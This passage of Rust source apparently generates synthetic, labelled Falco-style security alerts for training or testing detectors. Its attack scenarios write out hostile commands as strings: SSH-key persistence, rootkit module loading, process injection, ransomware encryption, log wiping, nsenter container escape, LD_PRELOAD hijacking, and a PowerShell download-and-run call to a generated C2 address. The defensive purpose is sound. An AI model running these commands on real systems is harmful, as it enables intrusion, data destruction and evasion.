                let home = *self.rng.pick(&["/root", "/home/ubuntu", "/home/deploy"]);
                let cmd = format!(
                    "sh -c mkdir -p {home}/.ssh && echo {key} >> {home}/.ssh/authorized_keys"
                );
                let pname = self.web_parent();
                let p = self.attacker(h, "sh", pname, &cmd, "/usr/bin/dash", "root", false);
                s.push(audit("execve", Target::None));
                s.push(audit(
                    "openat",
                    path(format!("{home}/.ssh/authorized_keys")),
                ));
                s.push(rule(
                    "write",
                    path(format!("{home}/.ssh/authorized_keys")),
                    "Write below root",
                    "Error",
                    T_FS,
                ));
                if self.rng.chance(0.5) {
                    s.push(rule(
                        "write",
                        path("/etc/ssh/sshd_config"),
                        "Write below etc",
                        "Error",
                        T_FS,
                    ));
                }
                p
            }
            "kernel_module" => {
                let h = self.linux_host();
                let kver = self.hosts[h].kernel;
                let m = *self
                    .rng
                    .pick(&["diamorphine", "reptile", "suterusu", "nfhook"]);
                let (n, cmd) = if self.rng.chance(0.6) {
                    ("insmod", format!("insmod /tmp/.k/{m}.ko"))
                } else {
                    ("modprobe", format!("modprobe {m}"))
                };
                let pname = *self.rng.pick(&["bash", "sh", "python3"]);
                let p = self.attacker(h, n, pname, &cmd, "/usr/bin/kmod", "root", false);
                s.push(audit("execve", Target::None));
                s.push(audit(
                    "write",
                    path(format!("/usr/lib/modules/{kver}/extra/{m}.ko")),
                ));
                s.push(rule(
                    "init_module",
                    path(format!("/tmp/.k/{m}.ko")),
                    "Linux Kernel Module Injection Detected",
                    "Warning",
                    T_PRIV,
                ));
                s.push(rule(
                    "write",
                    path(format!("/etc/modules-load.d/{m}.conf")),
                    "Write below etc",
                    "Error",
                    T_FS,
                ));
                p
            }
            "process_injection" => {
                let h = self.linux_host();
                let victim = self.rng.range_u32(1000, 40000);
                let (n, cmd) = match self.rng.below(3) {
                    0 => (
                        "gdb",
                        format!(
                            "gdb -p {victim} -batch -ex call (void*)dlopen(\"/tmp/.l/libx.so\",2)"
                        ),
                    ),
                    1 => (
                        "linux-inject",
                        format!("/tmp/.l/linux-inject -p {victim} -l /tmp/.l/libx.so"),
                    ),
                    _ => (
                        "python3",
                        format!("python3 /tmp/.l/inject.py {victim} /tmp/.l/libx.so"),
                    ),
                };
                let pname = self.web_parent();
                let p = self.attacker(
                    h,
                    n,
                    pname,
                    &cmd,
                    &format!("/tmp/.l/{n}"),
                    "root",
                    n == "linux-inject",
                );
                s.push(audit("execve", Target::None));
                s.push(rule(
                    "ptrace",
                    path(format!("/proc/{victim}")),
                    "PTRACE attached to process",
                    "Warning",
                    T_PRIV,
                ));
                s.push(audit("openat", path(format!("/proc/{victim}/maps"))));
                s.push(audit(
                    "process_vm_writev",
                    path(format!("/proc/{victim}/mem")),
                ));
                s.push(audit("openat", path("/tmp/.l/libx.so")));
                p
            }
            "ransomware" => {
                let h = self
                    .host_of_role(&[Role::Db, Role::Web, Role::Bastion])
                    .unwrap_or(0);
                let ext = *self.rng.pick(&["locked", "crypt", "enc", "lockbit"]);
                let dir = *self.rng.pick(&[
                    "/var/lib/postgresql/14/main",
                    "/srv/data",
                    "/home/alice/Documents",
                    "/var/www/html/uploads",
                ]);
                let (n, cmd) = match self.rng.below(3) {
                    0 => (
                        "python3",
                        format!("python3 /tmp/.cache/enc.py --path {dir} --ext .{ext}"),
                    ),
                    1 => ("lock", format!("/tmp/lock -p {dir}")),
                    _ => (
                        "openssl",
                        format!(
                            "openssl enc -aes-256-cbc -salt -pass pass:{} -in {dir}",
                            self.rng.alnum(12)
                        ),
                    ),
                };
                let p = self.attacker(
                    h,
                    n,
                    "bash",
                    &cmd,
                    &format!("/usr/bin/{n}"),
                    "root",
                    n == "lock",
                );
                s.push(audit("execve", Target::None));
                for _ in 0..self.rng.range_u32(6, 20) {
                    let f = format!(
                        "{dir}/{}.{}",
                        self.rng.alnum(7),
                        *self.rng.pick(&["pdf", "docx", "sql", "xlsx", "jpg"])
                    );
                    s.push(audit("openat", path(f.clone())));
                    s.push(audit("write", path(format!("{f}.{ext}"))));
                    s.push(audit("unlinkat", path(f)));
                }
                s.push(audit(
                    "write",
                    path(format!("{dir}/README_RESTORE_FILES.txt")),
                ));
                p
            }
            "log_wiping" => {
                let h = self.linux_host();
                let (n, cmd) = *self.rng.pick(&[
                    ("sh", "sh -c cat /dev/null > /var/log/auth.log; history -c"),
                    (
                        "shred",
                        "shred -u -z /var/log/wtmp /var/log/btmp /var/log/lastlog",
                    ),
                    (
                        "sh",
                        "sh -c rm -f /var/log/*.log /root/.bash_history; unset HISTFILE",
                    ),
                    (
                        "truncate",
                        "truncate -s 0 /var/log/syslog /var/log/auth.log",
                    ),
                ]);
                let pname = self.web_parent();
                let p = self.attacker(h, n, pname, cmd, &format!("/usr/bin/{n}"), "root", false);
                s.push(rule(
                    "execve",
                    Target::None,
                    "Clear Log Activities",
                    "Warning",
                    T_EVADE,
                ));
                for f in [
                    "/var/log/auth.log",
                    "/var/log/wtmp",
                    "/var/log/syslog",
                    "/var/log/lastlog",
                    "/root/.bash_history",
                ] {
                    if self.rng.chance(0.7) {
                        s.push(rule(
                            "unlinkat",
                            path(f),
                            "Clear Log Activities",
                            "Warning",
                            T_EVADE,
                        ));
                    }
                }
                p
            }
            "container_escape_nsenter" => {
                let h = self.host_of_role(&[Role::K8s, Role::Ci]).unwrap_or(0);
                let cmd = *self.rng.pick(&[
                    "nsenter -t 1 -m -u -i -n -p -- bash",
                    "nsenter --target 1 --mount --uts --ipc --net --pid -- sh -c id",
                    "nsenter -t 1 -a /bin/sh",
                ]);
                let mut p =
                    self.attacker(h, "nsenter", "bash", cmd, "/usr/bin/nsenter", "root", false);
                if p.container.is_none() {
                    p.container = Some(self.pod("default", "debug"));
                }
                s.push(rule(
                    "execve",
                    Target::None,
                    "Change thread namespace",
                    "Notice",
                    T_PRIV,
                ));
                s.push(audit("setns", path("/proc/1/ns/mnt")));
                s.push(audit("openat", path("/proc/1/root/etc/shadow")));
                s.push(audit("write", path("/proc/1/root/etc/cron.d/escape")));
                if self.rng.chance(0.5) {
                    s.push(rule(
                        "mount",
                        path("/host"),
                        "Mount Launched in Privileged Container",
                        "Warning",
                        T_PRIV,
                    ));
                }
                p
            }
            "ld_preload" => {
                let h = self.linux_host();
                let lib = *self.rng.pick(&[
                    "/usr/local/lib/libprocesshider.so",
                    "/dev/shm/.libc.so.6",
                    "/lib/x86_64-linux-gnu/libsystemd-shim.so",
                ]);
                let (n, cmd) = if self.rng.chance(0.5) {
                    ("sh", format!("sh -c echo {lib} > /etc/ld.so.preload"))
                } else {
                    ("env", format!("env LD_PRELOAD={lib} /usr/sbin/sshd -D"))
                };
                let pname = self.web_parent();
                let p = self.attacker(h, n, pname, &cmd, &format!("/usr/bin/{n}"), "root", false);
                s.push(audit("execve", Target::None));
                s.push(audit("write", path(lib)));
                s.push(rule(
                    "write",
                    path("/etc/ld.so.preload"),
                    "Write below etc",
                    "Error",
                    T_FS,
                ));
                s.push(audit("openat", path("/etc/ld.so.preload")));
                p
            }
            "office_powershell" => {
                let h = self.host_of_role(&[Role::Windows])?;
                let office = *self.rng.pick(&["WINWORD.EXE", "EXCEL.EXE", "OUTLOOK.EXE"]);
                let (ip, _) = self.c2();
                let b64 = format!(
                    "JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0{}",
                    self.rng.alnum(40)
                );
                let cmd = match self.rng.below(3) {
                    0 => format!("powershell -enc {b64}"),
                    1 => format!("powershell.exe -nop -w hidden -EncodedCommand {b64}"),
                    _ => format!("powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a.ps1')\""),
                };
                let p = self.attacker(
                    h,
                    "powershell.exe",
                    office,
                    &cmd,
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "jdoe",
                    false,
                );
                s.push(audit("execve", Target::None));
                s.push(audit("connect", Target::Out(ip, 443)));
                s.push(audit(
                    "write",
                    path(format!(
                        "C:\\Users\\jdoe\\AppData\\Local\\Temp\\{}.exe",
                        self.rng.alnum(8)
                    )),
                ));
                s.push(audit(
                    "registry_write",
                    path("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate"),
                ));
                if self.rng.chance(0.5) {
                    s.push(audit("write", path("C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\updater.lnk")));
                }
                p
            }
            _ => return None,
        };
        Some((proc, s))
    }

    // ---------------------------------------------------------------- output

    fn render(&mut self, p: &Proc, step: &Step, label: &LabelKind, out: &mut String) {
        let host = &self.hosts[p.host];
        let t = self.clock_ns;
        let geo = (p.geo + (self.rng.f64() - 0.5) * 0.04).clamp(0.0, 0.9999);
        // A rare spike on benign processes: the geometry is noisy too.
        let geo = if matches!(label, LabelKind::Benign(_)) && self.rng.chance(0.004) {
            self.rng.range_f64(0.5, 0.98)
        } else {
            geo
        };
        let (fd_name, net) = match &step.target {
            Target::None => (None, None),
            Target::Path(p) => (Some(p.clone()), None),
            Target::Out(ip, port) => {
                let cport = self.rng.range_u32(32768, 60999);
                let name = format!("{}:{cport}->{ip}:{port}", host.ip);
                (
                    Some(name),
                    Some((host.ip.clone(), cport, ip.clone(), u32::from(*port))),
                )
            }
            Target::In(ip, port) => {
                let cport = self.rng.range_u32(32768, 60999);
                let name = format!("{ip}:{cport}->{}:{port}", host.ip);
                (
                    Some(name),
                    Some((ip.clone(), cport, host.ip.clone(), u32::from(*port))),
                )
            }
        };
        let secs = t.div_euclid(1_000_000_000);
        let nanos = t.rem_euclid(1_000_000_000);
        let (hh, mm, ss) = ((secs / 3600) % 24, (secs / 60) % 60, secs % 60);
        let (container_id, container_name) = match &p.container {
            Some(c) => (c.id.as_str(), c.name.as_str()),
            None => ("host", "host"),
        };
        let file = fd_name.as_deref().unwrap_or("<NA>");
        let output = format!(
            "{hh:02}:{mm:02}:{ss:02}.{nanos:09}: {} {} (user={} user_uid={} process={} command={} pid={} file={} parent={} container_id={} container_name={})",
            step.priority, step.rule, p.user, p.uid, p.name, p.cmdline, p.pid, file, p.pname, container_id, container_name
        );
        out.push('{');
        push_key(out, "hostname");
        push_str(out, &host.name);
        out.push(',');
        push_key(out, "output");
        push_str(out, &output);
        out.push(',');
        push_key(out, "output_fields");
        out.push('{');
        let mut first = true;
        let mut field = |out: &mut String, key: &str| {
            if !first {
                out.push(',');
            }
            first = false;
            push_key(out, key);
        };
        field(out, "container.id");
        push_str(out, container_id);
        field(out, "container.name");
        push_str(out, container_name);
        field(out, "evt.time");
        out.push_str(&t.to_string());
        field(out, "evt.type");
        push_str(out, step.evt);
        if let Some((cip, cport, _, _)) = &net {
            field(out, "fd.cip");
            push_str(out, cip);
            field(out, "fd.cport");
            out.push_str(&cport.to_string());
            field(out, "fd.l4proto");
            push_str(out, if step.evt == "sendto" { "udp" } else { "tcp" });
        }
        field(out, "fd.name");
        match &fd_name {
            Some(name) => push_str(out, name),
            None => out.push_str("null"),
        }
        if let Some((_, _, sip, sport)) = &net {
            field(out, "fd.sip");
            push_str(out, sip);
            field(out, "fd.sport");
            out.push_str(&sport.to_string());
        }
        field(out, "file.sha256");
        match &p.sha256 {
            Some(sha) => push_str(out, sha),
            None => out.push_str("null"),
        }
        field(out, "k8s.ns.name");
        match p.container.as_ref().and_then(|c| c.ns.as_deref()) {
            Some(ns) => push_str(out, ns),
            None => out.push_str("null"),
        }
        field(out, "k8s.pod.name");
        match p.container.as_ref().and_then(|c| c.pod.as_deref()) {
            Some(pod) => push_str(out, pod),
            None => out.push_str("null"),
        }
        field(out, "proc.cmdline");
        push_str(out, &p.cmdline);
        field(out, "proc.exepath");
        push_str(out, &p.exepath);
        field(out, "proc.name");
        push_str(out, &p.name);
        field(out, "proc.pid");
        out.push_str(&p.pid.to_string());
        field(out, "proc.pname");
        push_str(out, &p.pname);
        field(out, "proc.ppid");
        out.push_str(&p.ppid.to_string());
        field(out, "scbe.geometry_norm");
        out.push_str(&format!("{geo:.6}"));
        field(out, "scbe.signer_trusted");
        out.push_str(if p.trusted { "true" } else { "false" });
        field(out, "user.name");
        push_str(out, p.user);
        field(out, "user.uid");
        out.push_str(&p.uid.to_string());
        out.push_str("},");
        push_key(out, "priority");
        push_str(out, step.priority);
        out.push(',');
        push_key(out, "rule");
        push_str(out, step.rule);
        out.push(',');
        push_key(out, "source");
        push_str(out, "syscall");
        out.push(',');
        push_key(out, "tags");
        out.push('[');
        for (i, tag) in step.tags.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            push_str(out, tag);
        }
        out.push_str("],");
        push_key(out, "time");
        let (y, mo, d) = civil_from_days(secs.div_euclid(86_400));
        push_str(
            out,
            &format!("{y:04}-{mo:02}-{d:02}T{hh:02}:{mm:02}:{ss:02}.{nanos:09}Z"),
        );
        out.push(',');
        push_key(out, "scbe_label");
        match label {
            LabelKind::Benign(scenario) => {
                out.push_str("{\"malicious\":false,\"scenario\":");
                push_str(out, scenario);
                out.push_str(",\"technique\":null,\"chain_id\":null}");
            }
            LabelKind::Attack { scenario, chain_id } => {
                out.push_str("{\"malicious\":true,\"scenario\":");
                push_str(out, SCENARIOS[*scenario].name);
                out.push_str(",\"technique\":");
                push_str(out, SCENARIOS[*scenario].technique);
                out.push_str(",\"chain_id\":");
                push_str(out, chain_id);
                out.push('}');
            }
        }
        out.push('}');
    }
}

/// (year, month, day) for days since 1970-01-01 (Howard Hinnant's algorithm).
fn civil_from_days(z: i64) -> (i64, u32, u32) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    (if m <= 2 { y + 1 } else { y }, m, d)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn generate(seed: u64, events: u64) -> (Vec<u8>, SynthSummary) {
        let mut out = Vec::new();
        let summary = synth(
            &SynthConfig {
                seed,
                events,
                attack_ratio: 0.05,
                hosts: 12,
            },
            &mut out,
        )
        .unwrap();
        (out, summary)
    }

    #[test]
    fn same_seed_same_bytes_and_lines_parse() {
        let (a, summary) = generate(3, 2000);
        let (b, _) = generate(3, 2000);
        assert_eq!(a, b);
        let (c, _) = generate(4, 2000);
        assert_ne!(a, c);
        let text = String::from_utf8(a).unwrap();
        assert_eq!(text.lines().count(), 2000);
        for line in text.lines() {
            let event = scbe_core::falco::parse_event(line, &Default::default()).unwrap();
            assert!(event.time.is_some());
        }
        assert_eq!(summary.events, 2000);
        assert!(summary.malicious_events > 0 && summary.chains > 0);
    }

    #[test]
    fn every_scenario_can_be_built() {
        let mut gen = Generator::new(&SynthConfig {
            seed: 1,
            events: 0,
            attack_ratio: 0.1,
            hosts: 12,
        });
        for (i, scenario) in SCENARIOS.iter().enumerate() {
            let (proc, steps) = gen.attack(i).expect("a 12-host fleet has every role");
            assert!(!steps.is_empty(), "{}", scenario.name);
            assert!(!proc.name.is_empty());
        }
    }

    #[test]
    fn civil_dates() {
        assert_eq!(civil_from_days(0), (1970, 1, 1));
        assert_eq!(civil_from_days(EPOCH_SECONDS / 86_400), (2025, 3, 10));
    }
}
